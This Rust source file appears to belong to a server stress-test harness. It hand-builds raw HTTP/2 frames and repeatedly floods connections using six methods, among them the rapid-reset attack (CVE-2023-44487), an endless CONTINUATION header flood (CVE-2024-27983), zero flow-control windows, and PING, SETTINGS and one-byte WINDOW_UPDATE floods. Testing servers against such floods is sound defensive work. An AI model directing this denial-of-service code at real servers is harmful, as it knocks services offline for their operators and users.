//! Attacks by the streams of HTTP/2 connections, as bytes: no library breaks the protocol as these do.

use crate::arena::Arena;
use crate::calls::code_of;
use crate::peer::{Peer, attacker};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flags of HEADERS.
const END_HEADERS: u8 = 4;
const OPEN: u8 = 0;

/// Error code of RST_STREAM: CANCEL.
const CANCEL: u32 = 8;

/// Requests of one burst; a connection may have fewer streams at a time.
const BURST: usize = 200;

/// Ways to attack, played by turns.
const WAYS: [fn(usize) -> Vec<u8>; 6] = [
    resets,
    closed_windows,
    pings,
    headers_without_end,
    settings,
    small_windows,
];

/// Connections that open streams and reset them, never open their windows, or send frames without end.
pub async fn streams(arena: Arena) {
    let connections = arena.size(24, 96);
    arena
        .all(connections, async |arena: Arena, number| {
            let way = WAYS[number % WAYS.len()];
            while arena.goes_on() {
                let Some(mut peer) = Peer::connect(&arena, attacker(number / WAYS.len())).await else {
                    return;
                };
                let flood = async {
                    let mut turn = 0;
                    if !peer.write(PREFACE).await {
                        return;
                    }
                    while arena.goes_on() {
                        let bytes = way(turn);
                        turn += 1;
                        if !peer.write(bytes).await {
                            return;
                        }
                    }
                };
                tokio::select! {
                    () = flood => arena.count("cut"),
                    () = arena.end() => {}
                }
            }
        })
        .await;
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// Returns the head of a POST of JSON. RFC 7541: entries 3, 6 and 4 of the static table, then names 1 and 31 of it with
/// values of their own.
fn post(stream: u32) -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x84];
    for (name, value) in [(&[0x01][..], "localhost"), (&[0x0f, 0x10], "application/json")] {
        block.extend(name);
        block.push(value.len() as u8);
        block.extend(value.bytes());
    }
    frame(HEADERS, END_HEADERS, stream, &block)
}

/// Streams of a client have odd numbers, which never repeat on a connection.
fn numbers(turn: usize) -> impl Iterator<Item = u32> {
    (0..BURST).map(move |at| (2 * (turn * BURST + at) + 1) as u32)
}

/// Requests that are reset at once (CVE-2023-44487).
fn resets(turn: usize) -> Vec<u8> {
    let reset = |stream| [post(stream), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat();
    numbers(turn).flat_map(reset).collect()
}

/// Calls of long answers for which the client opens no window.
fn closed_windows(turn: usize) -> Vec<u8> {
    // SETTINGS_INITIAL_WINDOW_SIZE = 0.
    let mut bytes = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for stream in numbers(turn).take(20) {
        let call = code_of(900_000 + stream as usize).to_string();
        bytes.extend(post(stream));
        bytes.extend(frame(DATA, 1, stream, call.as_bytes()));
    }
    bytes
}

fn pings(_: usize) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(BURST)
}

/// A head that is continued for ever (CVE-2024-27983).
fn headers_without_end(turn: usize) -> Vec<u8> {
    let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x07][..], &[b'y'; 1_024]].concat();
    let mut bytes = Vec::new();
    if turn == 0 {
        bytes.extend(frame(HEADERS, OPEN, 1, &[0x83, 0x86, 0x84]));
    }
    bytes.extend(frame(CONTINUATION, 0, 1, &field));
    bytes
}

fn settings(_: usize) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[]).repeat(BURST)
}

/// Windows that are opened byte by byte.
fn small_windows(_: usize) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(BURST)
}
